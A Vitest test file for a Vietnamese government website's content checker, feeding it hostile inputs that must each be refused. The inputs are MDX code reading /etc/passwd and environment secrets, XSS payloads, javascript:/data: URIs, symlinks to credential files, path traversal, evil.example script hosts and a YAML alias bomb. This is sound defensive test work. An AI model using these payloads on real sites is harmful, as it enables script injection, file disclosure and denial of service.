/**
 * Content is untrusted input: each attack a content change could try, fed to
 * the content check (the same that `npm run check` and every build run before
 * Astro reads anything). Each must be refused with a Vietnamese message naming
 * the file, and the line where there is one.
 */
import { symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkContent } from '../src/lib/checks/content-check';
import { formatProblem } from '../src/lib/checks/problem';
import { checkSettings } from '../src/lib/settings/check';
import { VALID_TREE, article, writeTree } from './helpers/content-tree';

async function messagesFor(changes: Record<string, string | Buffer>, prepare?: (dir: string) => void) {
  const dir = writeTree({ ...VALID_TREE, ...changes });
  prepare?.(dir);
  return (await checkContent(dir, dir)).map(formatProblem);
}

const mdx = (body: string) => article({ title: 'Bài MDX' }, body);

describe('MDX runs no code: only the site’s components, with literal values', () => {
  it('import and export', async () => {
    const messages = await messagesFor({
      'tin-tuc/bai-mdx.mdx': mdx("import { readFileSync } from 'node:fs';\n\nexport const x = readFileSync('/etc/passwd', 'utf8');\n\n{x}"),
    });
    expect(messages).toHaveLength(3);
    expect(messages[0]).toMatch(
      /^tin-tuc\/bai-mdx\.mdx:9 — trường "\(HTML trong bài\)": nhận được "import \{ readFileSync \} from 'node:fs';"; cần bỏ dòng import\/export/,
    );
    expect(messages[1]).toMatch(/^tin-tuc\/bai-mdx\.mdx:11 — .*"export const x/);
    expect(messages[2]).toMatch(/^tin-tuc\/bai-mdx\.mdx:13 — .*nhận được \{x\}; cần bỏ phần trong ngoặc nhọn/);
  });

  it('expressions: an environment secret, a dynamic import, in text and in an attribute, and spreads', async () => {
    const body =
      "Khóa: {process.env.SECRET}\n\n{await import('node:child_process')}\n\n<Callout title={process.env.X}>x</Callout>\n\n<Callout {...props}>y</Callout>";
    const messages = await messagesFor({ 'tin-tuc/bai-mdx.mdx': mdx(body) });
    expect(messages.map((m) => m.split(';')[0])).toEqual([
      'tin-tuc/bai-mdx.mdx:9 — trường "(HTML trong bài)": nhận được {process.env.SECRET}',
      'tin-tuc/bai-mdx.mdx:11 — trường "(HTML trong bài)": nhận được {await import(\'node:child_process\')}',
      'tin-tuc/bai-mdx.mdx:13 — trường "(HTML trong bài)": nhận được title={process.env.X} trên thẻ <Callout>',
      'tin-tuc/bai-mdx.mdx:15 — trường "(HTML trong bài)": nhận được {...props} trên thẻ <Callout>',
    ]);
  });

  it('set:html, a script of the site’s own bundle, a component the site does not hand in', async () => {
    const body = '<div set:html="<img src=x onerror=alert(1)>" />\n\n<script src="/_astro/cms.js"></script>\n\n<Secret />';
    const messages = await messagesFor({ 'tin-tuc/bai-mdx.mdx': mdx(body) });
    expect(messages.map((m) => m.split(';')[0])).toEqual([
      'tin-tuc/bai-mdx.mdx:9 — trường "(HTML trong bài)": nhận được thuộc tính set:html trên thẻ <div>',
      'tin-tuc/bai-mdx.mdx:11 — trường "(HTML trong bài)": nhận được thẻ <script>',
      'tin-tuc/bai-mdx.mdx:13 — trường "(HTML trong bài)": nhận được thành phần <Secret>',
    ]);
  });

  it('the template’s <!-- --> comment: a message with its line, not a crash', async () => {
    const messages = await messagesFor({ 'tin-tuc/bai-mdx.mdx': mdx('Đoạn đầu.\n\n<!-- Viết nội dung bài ở đây -->\n\nĐoạn sau.') });
    expect(messages).toHaveLength(1);
    expect(messages[0]).toMatch(
      /^tin-tuc\/bai-mdx\.mdx:11 — trường "\(HTML trong bài\)": nhận được MDX không đọc được .*; cần MDX viết đúng cú pháp: không có chú thích <!-- -->/,
    );
  });

  it('the allowed components with literal values pass; a wrong value is named', async () => {
    const ok =
      '<Callout kind="luu-y" title="Lưu ý">Mang theo hộ chiếu.</Callout>\n\n<YouTube id="dQw4w9WgXcQ" title="Lễ ký kết" />\n\n<Figure caption="Quang cảnh">Ảnh</Figure>';
    expect(await messagesFor({ 'tin-tuc/bai-mdx.mdx': mdx(ok) })).toEqual([]);
    const messages = await messagesFor({ 'tin-tuc/bai-mdx.mdx': mdx('<YouTube id="javascript:x" />') });
    expect(messages.map((m) => m.split(';')[0])).toEqual([
      'tin-tuc/bai-mdx.mdx:9 — trường "(HTML trong bài)": nhận được id="javascript:x" trên <YouTube>',
      'tin-tuc/bai-mdx.mdx:9 — trường "(HTML trong bài)": nhận được <YouTube> thiếu title',
    ]);
  });
});

describe('files stay inside content/', () => {
  const documentWith = (file: string) =>
    `---\nnumber: 1/QĐ\ntype: Quyết định\nissuer: UBND tỉnh\nfield: Đối ngoại\nissued: 2024-05-10\nsummary: Quy chế.\nfiles:\n  - ${file}\n---\n`;

  it('an attachment that is a symlink to /etc/passwd or to .git/config', async () => {
    const messages = await messagesFor({ 'van-ban/qd-1.md': documentWith('phu-luc.pdf') }, (dir) => {
      symlinkSync('/etc/passwd', join(dir, 'van-ban/phu-luc.pdf'));
      symlinkSync('../../.git/config', join(dir, 'van-ban/cau-hinh.pdf'));
    });
    expect(messages).toEqual([
      'van-ban/cau-hinh.pdf — trường "(liên kết tượng trưng)": nhận được một liên kết tượng trưng (symlink); cần một tệp hoặc thư mục thật: trang web không đăng liên kết tượng trưng, vì chúng có thể trỏ ra ngoài thư mục nội dung; hãy chép chính tệp vào đây.',
      'van-ban/phu-luc.pdf — trường "(liên kết tượng trưng)": nhận được một liên kết tượng trưng (symlink); cần một tệp hoặc thư mục thật: trang web không đăng liên kết tượng trưng, vì chúng có thể trỏ ra ngoài thư mục nội dung; hãy chép chính tệp vào đây.',
    ]);
  });

  it('a symlinked folder anywhere under content/', async () => {
    const messages = await messagesFor({}, (dir) => symlinkSync(tmpdir(), join(dir, 'tin-tuc/anh')));
    expect(messages).toEqual([expect.stringMatching(/^tin-tuc\/anh — trường "\(liên kết tượng trưng\)"/)]);
  });

  it('a cover outside content/: the same message whether that path exists or not', async () => {
    const outside = join(tmpdir(), `ngoai-${process.pid}.jpg`);
    writeFileSync(outside, 'x');
    const existing = await messagesFor({ 'tin-tuc/hop-bao.md': article({ cover: outside, coverAlt: 'Ảnh' }) });
    const missing = await messagesFor({ 'tin-tuc/hop-bao.md': article({ cover: `${outside}.khong-co.jpg`, coverAlt: 'Ảnh' }) });
    const relativeOut = await messagesFor({ 'tin-tuc/hop-bao.md': article({ cover: '../../../../../../etc/anh.jpg', coverAlt: 'Ảnh' }) });
    const expected =
      'cần một tệp nằm trong thư mục content/ (đặt tệp cạnh tệp Markdown và ghi tên tệp, không ghi "../" hay đường dẫn tuyệt đối): trang web chỉ đăng tệp của thư mục nội dung.';
    for (const messages of [existing, missing, relativeOut]) {
      expect(messages).toHaveLength(1);
      expect(messages[0]).toMatch(/^tin-tuc\/hop-bao\.md:7 — trường "cover": nhận được "/);
      expect(messages[0]!.endsWith(expected)).toBe(true);
    }
  });

  it('a body image outside content/', async () => {
    const messages = await messagesFor({ 'tin-tuc/hop-bao.md': article({}, '![Ảnh](../../../../etc/anh.png)') });
    expect(messages).toEqual([
      expect.stringMatching(/^tin-tuc\/hop-bao\.md:9 — trường "\(ảnh trong bài\)": nhận được "..\/..\/..\/..\/etc\/anh.png"; cần một tệp ảnh có thật/),
    ]);
  });
});

describe('third-party hosts come from code, not settings', () => {
  it('an EMC script on another host, a counter URL on another host', async () => {
    const stats =
      'legacyTotal: 1\nlegacySource: Bộ đếm cũ\nemc:\n  enabled: true\n  siteId: snv\n  script: https://evil.example/x.js?id={siteId}\nonline:\n  url: https://evil.example/count\n';
    const messages = await messagesFor({ 'cai-dat/thong-ke.yaml': stats });
    expect(messages.some((m) => m.includes('"emc.script"'))).toBe(true);
    expect(messages.some((m) => m.includes('"online.url"'))).toBe(true);
    expect(messages.every((m) => m.startsWith('cai-dat/thong-ke.yaml:'))).toBe(true);
  });

  it('a counter path that names another host', async () => {
    const stats = 'legacyTotal: 1\nlegacySource: Bộ đếm cũ\nonline:\n  path: //evil.example/count\n';
    const messages = await messagesFor({ 'cai-dat/thong-ke.yaml': stats });
    expect(messages).toEqual([
      expect.stringMatching(
        /^cai-dat\/thong-ke\.yaml:4 — trường "online.path": nhận được "\/\/evil.example\/count"; cần một đường dẫn bắt đầu bằng một dấu \//,
      ),
    ]);
  });
});

describe('body HTML: an allowlist', () => {
  it('meta refresh, base, form, object, embed, style, link, svg, an event handler: each refused with its line', async () => {
    const body = [
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '',
      '<base href="https://evil.example/">',
      '',
      '<form action="https://evil.example/"><input name="mat-khau"></form>',
      '',
      '<object data="x.swf"></object><embed src="x.swf">',
      '',
      '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
      '',
      '<svg><script>alert(1)</script></svg>',
      '',
      '<p onmouseover="alert(1)">Chữ</p>',
    ].join('\n');
    const messages = await messagesFor({ 'tin-tuc/hop-bao.md': article({}, body) });
    expect(messages.map((m) => m.split(';')[0].replace(' — trường "(HTML trong bài)": nhận được', ''))).toEqual([
      'tin-tuc/hop-bao.md:9 thẻ <meta>',
      'tin-tuc/hop-bao.md:11 thẻ <base>',
      'tin-tuc/hop-bao.md:13 thẻ <form>',
      'tin-tuc/hop-bao.md:13 thẻ <input>',
      'tin-tuc/hop-bao.md:15 thẻ <object>',
      'tin-tuc/hop-bao.md:15 thẻ <embed>',
      'tin-tuc/hop-bao.md:17 thẻ <style>',
      'tin-tuc/hop-bao.md:17 thẻ <link>',
      'tin-tuc/hop-bao.md:19 thẻ <svg>',
      'tin-tuc/hop-bao.md:19 thẻ <script>',
      'tin-tuc/hop-bao.md:21 thuộc tính onmouseover trên thẻ <p>',
    ]);
  });

  it('data:, javascript: and vbscript: addresses in any attribute and in Markdown links', async () => {
    const body =
      '<img src="data:image/png;base64,AAAA" alt="x">\n\n<a href="VBScript:msgbox(1)">a</a>\n\n[Tải](data:text/html,<script>alert(1)</script>)\n\n<blockquote cite="javascript:x()">q</blockquote>';
    const messages = await messagesFor({ 'tin-tuc/hop-bao.md': article({}, body) });
    expect(messages.map((m) => m.split(';')[0].replace(' — trường "(HTML trong bài)": nhận được', ''))).toEqual([
      'tin-tuc/hop-bao.md:9 src="data:image/png',
      'tin-tuc/hop-bao.md:11 href="VBScript:msgbox(1)" trên thẻ <a>',
      'tin-tuc/hop-bao.md:13 liên kết "data:text/html,<script>alert(1)</script>"',
      'tin-tuc/hop-bao.md:15 cite="javascript:x()" trên thẻ <blockquote>',
    ]);
  });

  it('an SVG file as a body image or an attachment is refused, named', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
    const messages = await messagesFor({ 'tin-tuc/hop-bao.md': article({}, '![Sơ đồ](./so-do.svg)'), 'tin-tuc/so-do.svg': svg });
    expect(messages).toEqual([
      'tin-tuc/so-do.svg — trường "(loại tệp)": nhận được một tệp SVG; cần ảnh JPEG, PNG, WebP hoặc AVIF: tệp SVG có thể chứa mã chạy trên trang nên không được đăng; hãy xuất hình thành PNG.',
    ]);
  });

  it('what an article needs passes: tables, figures, abbreviations, sup/sub, the YouTube player', async () => {
    const body = [
      '<table><caption>Đoàn ra</caption><thead><tr><th scope="col">Nước</th></tr></thead><tbody><tr><td colspan="1">Lào</td></tr></tbody></table>',
      '',
      '<figure><img src="https://songoaivu.sonla.gov.vn/a.jpg" alt="Ảnh"><figcaption>Chú thích</figcaption></figure>',
      '',
      '<p><abbr title="Cộng hòa Dân chủ Nhân dân">CHDCND</abbr> Lào, m<sup>2</sup>, H<sub>2</sub>O, <a href="mailto:snv@sonla.gov.vn">thư</a></p>',
      '',
      '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Clip"></iframe>',
    ].join('\n');
    expect(await messagesFor({ 'tin-tuc/hop-bao.md': article({}, body) })).toEqual([]);
  });
});

describe('big and odd inputs: one message naming the file, never a crash', () => {
  it('a Markdown file over the size limit', async () => {
    const messages = await messagesFor({ 'tin-tuc/hop-bao.md': article({}, 'Chữ. '.repeat(600_000)) });
    expect(messages).toEqual([
      'tin-tuc/hop-bao.md — trường "(kích thước tệp)": nhận được 4,0 MB; cần một tệp .md không quá 2,0 MB; chia bài dài thành nhiều bài, hoặc đưa văn bản dài vào tệp PDF đính kèm.',
    ]);
  });

  it('a file that is not UTF-8, a NUL byte', async () => {
    const latin1 = Buffer.from(article({ title: 'Hội nghị' }).replace('Hội nghị', 'H\u00f4i'), 'latin1');
    const nul = Buffer.from(article({}, 'Chữ\u0000ẩn'));
    const messages = await messagesFor({ 'tin-tuc/hop-bao.md': latin1, 'tin-tuc/nul.md': nul });
    expect(messages).toEqual([
      'tin-tuc/hop-bao.md:1 — trường "(bảng mã)": nhận được tệp có byte không phải UTF-8; cần lưu tệp với bảng mã UTF-8 (trong Excel: "CSV UTF-8"; trong trình soạn thảo: Save with Encoding → UTF-8).',
      'tin-tuc/nul.md:9 — trường "(bảng mã)": nhận được tệp có ký tự NUL (byte 0): đây là tệp nhị phân hoặc bị hỏng; cần một tệp chữ: mở lại và lưu ở dạng văn bản UTF-8.',
    ]);
  });

  it('a YAML alias bomb, in settings and in front matter', async () => {
    const bomb = [
      'a: &a ["x","x","x","x","x","x","x","x","x"]',
      ...'bcdefghi'.split('').map((k, i) => `${k}: &${k} [${Array(9).fill(`*${'abcdefghi'[i]}`).join(',')}]`),
    ].join('\n');
    const messages = await messagesFor({
      'cai-dat/thong-ke.yaml': `legacyTotal: 1\nlegacySource: x\n${bomb}\n`,
      'tin-tuc/hop-bao.md': `---\n${bomb}\n---\n\nChữ.\n`,
    });
    expect(messages).toEqual([
      'cai-dat/thong-ke.yaml — trường "(YAML)": nhận được 72 bí danh (*tên); cần không quá 20 bí danh YAML: viết thẳng giá trị thay cho "&tên"/"*tên".',
      'tin-tuc/hop-bao.md — trường "(YAML)": nhận được 72 bí danh (*tên); cần không quá 20 bí danh YAML: viết thẳng giá trị thay cho "&tên"/"*tên".',
    ]);
    const settings = checkSettings(writeTree({ ...VALID_TREE, 'cai-dat/site.yaml': `${VALID_TREE['cai-dat/site.yaml']}${bomb}\n` }), '/');
    expect(settings.problems).toHaveLength(1);
  });

  it('a malformed % escape in a raw link or a Markdown link (it crashed the archive with a URIError)', async () => {
    const messages = await messagesFor({ 'tin-tuc/hop-bao.md': article({}, '<a href="/tin-tuc/giam-50%/">Giảm</a>\n\n[Tải](./bang-gia-100%.pdf)') });
    expect(messages.filter((m) => m.includes('(HTML trong bài)')).map((m) => m.split(';')[0])).toEqual([
      'tin-tuc/hop-bao.md:9 — trường "(HTML trong bài)": nhận được href="/tin-tuc/giam-50%/" trên thẻ <a>',
      'tin-tuc/hop-bao.md:11 — trường "(HTML trong bài)": nhận được liên kết "./bang-gia-100%.pdf"',
    ]);
  });

  it('a page-view CSV that is not UTF-8 (Excel’s default export) is named', async () => {
    const csv = Buffer.from('date,path,views\n2025-03-01,/tin-tuc/h\u00f4i/,3\n', 'latin1');
    const messages = await messagesFor({ 'cai-dat/thong-ke/2025-03.csv': csv });
    expect(messages).toEqual([expect.stringMatching(/^cai-dat\/thong-ke\/2025-03\.csv:1 — trường "\(bảng mã\)": nhận được tệp có byte không phải UTF-8/)]);
  });
});
